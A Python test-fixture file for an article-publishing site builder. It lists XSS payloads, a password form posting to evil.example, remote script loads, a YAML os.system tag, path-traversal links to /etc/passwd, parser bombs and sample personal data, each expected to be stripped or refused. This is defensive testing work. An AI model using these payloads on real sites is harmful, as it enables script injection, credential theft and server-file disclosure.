"""Hostile and broken article files, each with what must come of it.

`Published`: the piece goes up, and its page and feeds hold what they must and nothing of what they must not.
`Refused`: nothing goes up; a problem with that code names the file.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from support.files import article_text

FOLDER = "tin-bai/2024/03"


@dataclass(frozen=True)
class Published:
    """Body and fields of a piece that is harmless once it is on the site."""

    body: str = "Nội dung của bài."
    fields: dict[str, str] = field(default_factory=dict)
    shows: tuple[str, ...] = ()
    """In the text that a reader sees."""
    holds: tuple[str, ...] = ()
    """In the page's HTML."""
    lacks: tuple[str, ...] = ()
    """Nowhere in the page or the feeds, in any case."""
    raw: bytes | None = None
    has_page: bool = True


@dataclass(frozen=True)
class Refused:
    """A file with that name and those bytes, and the code of the problem that it must give."""

    code: str
    raw: bytes
    name: str = ""


def _text(body: str | None = None, **fields: str | None) -> bytes:
    return article_text(body, "bai", **fields).encode()


P = Published
PUBLISHED: dict[str, Published] = {
    "script": P("<script>alert(1)</script>", lacks=("alert(1)",)),
    "script-src": P(
        "Chữ <script src=https://evil.example/x.js></script> tiếp.", shows=("tiếp.",), lacks=("evil.example",)
    ),
    "script-uppercase": P("<SCRIPT>alert(2)</SCRIPT>", lacks=("alert(2)",)),
    "script-nested": P("<scr<script>ipt>alert(3)</scr</script>ipt>", lacks=("<script>alert",)),
    "handler-image": P("<img src=x onerror=alert(1)>", lacks=("onerror",)),
    "handler-slash": P("<img/src=x/onerror=alert(1)>", lacks=("<img/src", "onerror=")),
    "handler-details": P("<details open ontoggle=alert(1)>x</details>", lacks=("ontoggle",)),
    "svg-inline": P("<svg onload=alert(1)><circle r=9 /></svg>", lacks=("<circle", "onload")),
    "math-mutation": P(
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        lacks=("onerror", "<math"),
    ),
    "noscript-mutation": P(
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>", lacks=("<img src=x",)
    ),
    "iframe": P('<iframe src="https://evil.example/"></iframe>', lacks=("<iframe", "evil.example")),
    "iframe-srcdoc": P("<iframe srcdoc='<script>alert(1)</script>'></iframe>", lacks=("srcdoc=", "<iframe")),
    "iframe-lookalike-host": P(
        '<iframe src="https://video.example.evil.example/embed/1"></iframe>', lacks=("<iframe", "evil.example")
    ),
    "iframe-credentials": P(
        '<iframe src="https://video.example@evil.example/"></iframe>', lacks=("<iframe", "evil.example")
    ),
    "iframe-allowed": P(
        '<iframe src="https://video.example/embed/7" title="Phim hướng dẫn" onload="alert(1)"></iframe>',
        shows=("Phim hướng dẫn",),
        holds=('<details class="player">', "data-player"),
        lacks=("onload",),
    ),
    "object": P("<object data='data:text/html,<script>alert(1)</script>'></object>", lacks=("<object",)),
    "embed": P("<embed src=//evil.example/x.swf>", lacks=("<embed", "evil.example")),
    "form": P(
        "<form action=https://evil.example/><input name=mat-khau><button>Gửi</button></form>",
        lacks=("evil.example", "mat-khau"),
    ),
    "style-element": P("<style>body{background:url(//evil.example/)}</style>", lacks=("evil.example",)),
    "style-attribute": P("<p style='position:fixed;inset:0'>x</p>", lacks=("position:fixed",)),
    "base": P("<base href='https://evil.example/'>", lacks=("<base", "evil.example")),
    "meta-refresh": P("<meta http-equiv=refresh content='0;url=https://evil.example/'>", lacks=("evil.example",)),
    "link-stylesheet": P("<link rel=stylesheet href=https://evil.example/x.css>", lacks=("evil.example",)),
    "video-element": P("<video src=https://evil.example/x.mp4 autoplay></video>", lacks=("evil.example", "autoplay")),
    "audio-source": P("<audio><source src=https://evil.example/x.mp3></audio>", lacks=("evil.example",)),
    "template": P("<template><script>alert(1)</script></template>", lacks=("<template", "alert(1)")),
    "foreign-image": P('<img src="https://evil.example/dem.gif" alt="Bộ đếm người xem">', lacks=("evil.example",)),
    "foreign-srcset": P(
        '<img srcset="https://evil.example/a.png 2x" alt="Ảnh bộ phận một cửa">', lacks=("evil.example",)
    ),
    "javascript-href": P('<a href="javascript:alert(1)">bấm</a>', shows=("bấm",), lacks=("javascript:",)),
    "javascript-entities": P('<a href="&#106;avascript&#58;alert(1)">bấm</a>', lacks=("javascript:", "&#106;")),
    "javascript-tab": P('<a href="java\tscript:alert(1)">bấm</a>', lacks=("script:alert",)),
    "data-href": P('<a href="data:text/html;base64,PHNjcmlwdD4=">bấm</a>', lacks=("data:text",)),
    "vbscript-href": P('<a href="vbscript:msgbox(1)">bấm</a>', lacks=("vbscript:",)),
    "target-opener": P(
        '<a href="https://vi.example/" target="_blank" rel="opener">x</a>', lacks=('rel="opener"', "_blank")
    ),
    "attr-list-handler": P(
        'Chữ [x](https://vi.example/){: onclick="alert(1)" style="top:0" }', lacks=("onclick", "top:0")
    ),
    "heading-handler": P("## Tiêu đề {: onmouseover=alert(1) }", lacks=("onmouseover",)),
    "admonition-title": P('!!! note "<img src=x onerror=alert(1)>"\n    chữ', lacks=("<img src",)),
    "footnote-script": P("Chữ[^1]\n\n[^1]: <script>alert(1)</script>", lacks=("alert(1)",)),
    "link-title-breakout": P("[x](https://vi.example/ '\"onmouseover=alert(1) x=\"')", lacks=(" onmouseover=",)),
    "link-address-breakout": P('[x](https://vi.example/"><script>alert(1)</script>)', lacks=("<script>alert",)),
    "cdata": P("<![CDATA[<script>alert(1)</script>]]>", lacks=("<script>alert",)),
    "cdata-end": P("Chữ ]]> chữ", shows=("Chữ ]]> chữ",)),
    "php": P("<?php echo 7*6 ?> Chữ", lacks=("<?php",)),
    "comment-open": P("Chữ <!-- không đóng", shows=("Chữ",)),
    "jinja": P(
        "{{ 6*7 }} và {{ config }} và {% include 'mkdocs.yml' %}", shows=("{{ 6*7 }}", "{% include"), lacks=(">42<",)
    ),
    "jinja-title": P(fields={"title": '"{{ 7*191 }} {% raw %}"'}, shows=("{{ 7*191 }}",), lacks=("1337",)),
    "snippet": P('--8<-- "mkdocs.yml"', shows=("--8<--",), lacks=("site_name",)),
    "macro": P("[TOC]\n\n::: cchc_site.cli", lacks=("content_option",)),
    "entity-control": P("a&#7;b&#x0B;c", lacks=("\x07", "\x0b", "&#7;")),
    "entity-surrogate": P("a&#xD800;b", lacks=("&#xD800;",)),
    "entity-null": P("a&#0;b", lacks=("\x00",)),
    "entity-noncharacter": P("a&#xFFFE;b", lacks=("\ufffe",)),
    "layout-breakout": P("</div></div></article></main></body></html>\n\nSau.", holds=("</footer>",), shows=("Sau.",)),
    "unclosed-elements": P("<div><table><tr><td><b>\n\nChữ", holds=("</footer>",), shows=("Chữ",)),
    "second-h1": P("# Một\n\n<h1>Hai</h1>", shows=("Hai",)),
    "code-is-text": P(
        "```html\n<script>alert(1)</script>\n```", shows=("<script>alert(1)</script>",), lacks=("<script>alert",)
    ),
    "title-html": P(
        fields={"title": "'<script>alert(1)</script> & \"x\"'"},
        shows=('<script>alert(1)</script> & "x"',),
        lacks=("<script>alert",),
    ),
    "summary-cdata-end": P(fields={"summary": "'Tóm tắt ]]> <b onclick=x>'"}, lacks=("<b onclick",)),
    "author-html": P(fields={"author": '"<img src=x onerror=alert(1)>"'}, lacks=("<img src=x",)),
    "tag-html": P(fields={"tags": '["<i onclick=x>"]'}, lacks=("<i onclick",)),
    "image-alt-breakout": P(
        fields={"image": "{src: anh.png, alt: 'Ảnh \" onerror=\"alert(1)'}"},
        holds=("anh.png",),
        lacks=('" onerror="alert',),
    ),
    "update-note-html": P(
        fields={"updates": "[{date: 2024-03-06, note: '<script>alert(1)</script>'}]"}, lacks=("<script>alert",)
    ),
    "long-word": P("a" * 5000, shows=("a" * 5000,)),
    "deep-list": P("\n".join("    " * depth + "- mục" for depth in range(8)), shows=("mục",)),
    "deep-quote": P("> " * 10 + "trích", shows=("trích",)),
    "wide-table": P("|" + "a|" * 40 + "\n|" + "-|" * 40 + "\n|" + "b|" * 40, holds=("<table>",)),
    "many-links": P(" ".join(f"[liên kết {n}](https://vi.example/{n})" for n in range(200)), shows=("liên kết 199",)),
    "emphasis-maze": P("*a **b _c __d " * 60, shows=("a",)),
    "emoji-and-arabic": P("Chữ 👩‍👩‍👧 và مرحبا.", shows=("مرحبا",)),
    "look-alike-letters": P("Cải cách hành сhính.", shows=("сhính",)),
    "zero-width": P("thủ\u200btục", shows=("tục",)),
    "stacked-marks": P("z̷̨̛͚a", shows=("a",)),
    "windows-line-ends": P(raw=_text("Dòng một.\n\nDòng hai.").replace(b"\n", b"\r\n"), shows=("Dòng hai.",)),
    "old-mac-line-ends": P(raw=_text("Dòng một.\n\nDòng ba.").replace(b"\n", b"\r"), shows=("Dòng ba.",)),
    "byte-order-mark": P(raw=b"\xef\xbb\xbf" + _text("Có dấu thứ tự byte."), shows=("Có dấu thứ tự byte.",)),
    "no-final-line-end": P(raw=_text("Hết.").rstrip(b"\n"), shows=("Hết.",)),
    "fences-inside": P("Trên\n\n---\n\ntitle: không phải trường\n\n---\n\nDưới", shows=("không phải trường",)),
    "empty-body": P(""),
    "draft": P(fields={"draft": "true"}, has_page=False),
    "held-back": P(fields={"date": "2024-03-31T23:59+07:00"}, has_page=False),
    "withdrawn": P(
        "Điều bí mật.", {"withdrawn": "{date: 2024-03-09, reason: Sai}"}, shows=("Sai",), lacks=("Điều bí mật",)
    ),
}

R = Refused
FRONT = (
    "---\ntitle: Ba bước\ndate: 2024-03-05\nareas: [procedures]\nkind: bai\nunit: van-phong\nauthor: A\nsummary: B.\n"
)
REFUSED: dict[str, Refused] = {
    "utf-16": R("T01", _text().decode().encode("utf-16")),
    "latin-1": R("T01", _text("Nội dung café".replace("ộ", "o")).decode().encode("latin-1", "replace") + b"\xe9"),
    "overlong-utf-8": R("T01", _text() + b"\xc0\xaf"),
    "lone-surrogate": R("T01", _text() + b"\xed\xa0\x80"),
    "binary": R("T01", bytes(range(256)) * 8),
    "huge": R("T02", _text("chữ " * 300_000)),
    "decomposed": R("T03", _text("Nộ" + "i dung đã ta\u0301ch rời")),
    "null": R("T04", _text("a\x00b")),
    "vertical-tab": R("T04", _text("a\x0bb")),
    "escape-sequence": R("T04", _text("a\x1b[31mđỏ")),
    "line-separator": R("T04", _text("a\u2028b")),
    "inner-byte-order-mark": R("T04", _text("a\ufeffb")),
    "escaped-null": R("T04", _text(title='"a\\0b"')),
    "escaped-noncharacter": R("T04", _text(title='"a\\uFFFEb"')),
    "escaped-surrogate": R("Y01", _text(title='"a\\uD800b"')),
    "bidi-override": R("T09", _text("Số tiền là \u202e000.01\u202c đồng")),
    "bidi-isolate": R("T09", _text("a\u2066b\u2069")),
    "escaped-bidi": R("T09", _text(title='"a\\u202Eb"')),
    "empty-file": R("Y06", b""),
    "only-spaces": R("Y06", b"  \n\n \n"),
    "no-front-matter": R("Y06", "Chỉ có chữ.\n".encode()),
    "unclosed-front-matter": R("Y06", FRONT.encode()),
    "only-fences": R("F02", b"---\n---\n"),
    "toml": R("Y06", b'+++\ntitle = "x"\n+++\n'),
    "tab-indent": R("Y02", FRONT.encode() + b"image:\n\tsrc: a.png\n---\n"),
    "anchor-bomb": R("Y03", b"---\na: &a [x,x]\nb: &b [*a,*a]\nc: [*b,*b]\n---\n"),
    "merge-key": R("Y03", FRONT.encode() + b"source: &s {name: x}\n---\n"),
    "python-tag": R("Y04", FRONT.encode() + b"tags: !!python/object/apply:os.system [ls]\n---\n"),
    "duplicate-key": R("Y05", FRONT.encode() + b"title: Hai\n---\n"),
    "deep-flow": R("Y07", FRONT.encode() + b"tags: " + b"[" * 60 + b"]" * 60 + b"\n---\n"),
    "flow-bomb": R("Y07", b"---\ntitle: " + b"[" * 9000 + b"\n---\n"),
    "front-matter-list": R("Y08", b"---\n- a\n- b\n---\n"),
    "two-documents": R("F02", b"---\ntitle: a\n---\nb: c\n---\n"),
    "colon-in-title": R("Y01", _text(title="Nộp hồ sơ: ba bước: một")),
    "open-quote": R("Y01", _text(title='"không đóng')),
    "unknown-field": R("F01", _text(titel="x")),
    "missing-title": R("F02", _text(title=None)),
    "list-as-title": R("F03", _text(title="[a, b]")),
    "long-title": R("F03", _text(title="a" * 5000)),
    "impossible-day": R("F04", _text(date="2024-02-31")),
    "document-day": R("F04", _text(date="05/03/2024")),
    "year-zero": R("F04", _text(date="0000-01-01")),
    "number-as-date": R("F04", _text(date="1e999")),
    "unknown-area": R("F05", _text(areas="[procedure]")),
    "yes-as-draft": R("F05", _text(draft="yes")),
    "empty-areas": R("F06", _text(areas="[]")),
    "slug-climbs": R("F03", _text(slug="../../../index")),
    "slug-slash": R("F03", _text(slug="a/b")),
    "alias-climbs": R("F03", _text(aliases="[../../index.html]")),
    "alias-of-a-page": R("B11", _text(aliases="[tinh-hinh-thuc-hien]")),
    "id-with-space": R("F03", _text(id="a b")),
    "image-climbs": R("B15", _text(image="{src: ../../../../mkdocs.yml, alt: Cấu hình của trang}")),
    "image-absolute": R("B15", _text(image="{src: /etc/passwd, alt: Tệp của máy chủ}")),
    "image-missing": R("B15", _text(image="{src: khong-co.png, alt: Ảnh không có}")),
    "image-scheme": R("F03", _text(image="{src: 'https://evil.example/a.png', alt: Ảnh ở nơi khác}")),
    "video-missing": R("B15", _text(form="video", video="{src: phim.mp4, duration: 9}")),
    "video-without-file": R("B06", _text(form="video")),
    "foreign-picture": R("B14", _text("![Bộ đếm người xem](https://evil.example/dem.gif)")),
    "link-climbs": R("B14", _text("[x](../../../../mkdocs.yml)")),
    "link-encoded-climb": R("B14", _text("[x](%2e%2e/%2e%2e/%2e%2e/%2e%2e/mkdocs.yml)")),
    "link-protocol-relative": R("B14", _text("[x](//evil.example/)")),
    "link-javascript": R("B14", _text("[x](javascript:alert(1))")),
    "link-data": R("B14", _text("[x](data:text/html,x)")),
    "link-file": R("B14", _text("[x](file:///etc/passwd)")),
    "link-broken": R("B14", _text("[x](khong-co.md)")),
    "definition-javascript": R("B14", _text("[x][y]\n\n[y]: javascript:alert(1)")),
    "repost-without-source": R("B07", _text(origin="repost")),
    "unknown-unit": R("B03", _text(unit="phong-khong-co")),
    "translation-of-nothing": R("B12", _text(translation_of="2024/03/khong-co")),
    "uppercase-name": R("T06", _text(), f"{FOLDER}/Bai-Moi.md"),
    "name-with-space": R("T06", _text(), f"{FOLDER}/bai moi.md"),
    "name-with-marks": R("T06", _text(), f"{FOLDER}/bài-mới.md"),
    "name-with-line-break": R("T06", _text(), f"{FOLDER}/bai\nmoi.md"),
    "month-13": R("T06", _text(), "tin-bai/2024/13/bai.md"),
    "outside-a-month": R("T06", _text(), "tin-bai/bai.md"),
    "other-extension": R("T06", _text(), f"{FOLDER}/bai.markdown"),
    "html-asset": R("T07", b"<script>alert(1)</script>", f"{FOLDER}/trang.html"),
    "svg-asset": R("T07", b"<svg onload='alert(1)'/>", f"{FOLDER}/hinh.svg"),
    "program-asset": R("T07", b"MZ", f"{FOLDER}/cai-dat.exe"),
    "open-brackets": R("M01", _text("[" * 9000)),
    "nested-links": R("M01", _text("[a" * 4000 + "](b)" * 4000)),
    "nested-pictures": R("M01", _text("![" * 4000)),
    "quote-bomb": R("M01", _text(">" * 9000)),
    "list-bomb": R("M01", _text("- " * 4000 + "a")),
    "table-bomb": R("M01", _text("a|" * 3000 + "\n" + "-|" * 3000 + "\n" + "b\n" * 3000)),
    "footnote-bomb": R("M01", _text("[^1] " * 30_000 + "\n\n[^1]: a")),
    "heading-bomb": R("M01", _text("# a\n" * 100_000)),
    "space-bomb": R("M01", _text("```" + " " * 100_000)),
    "tag-bomb": R("M01", _text("<a " * 100_000)),
    "star-bomb": R("M01", _text("*a" * 100_000)),
    "pasted-picture": R("M01", _text("![Ảnh dán](data:image/png;base64," + "A" * 60_000 + ")")),
    "phone": R("L01", _text("Gọi anh Nam, 0912 345 678 để được giúp.")),
    "phone-plus": R("L01", _text("Liên hệ (+84) 912.345.678.")),
    "phone-in-link": R("L01", _text("[Gọi ngay](tel:+84912345678)")),
    "citizen-number": R("L02", _text("Ông A, CCCD số 001099012345, đã nộp.")),
    "old-card-number": R("L02", _text("Số chứng minh nhân dân: 123456789.")),
    "bank-account": R("L03", _text("Chuyển vào số tài khoản 0011 0012 34567 tại ngân hàng.")),
    "private-mailbox": R("L04", _text("Gửi về nguyenvana1980@gmail.com trước ngày 5.")),
    "disguised-mailbox": R("L04", _text("Gửi về nguyenvana (at) gmail.com trước ngày 5.")),
}  # fmt: skip
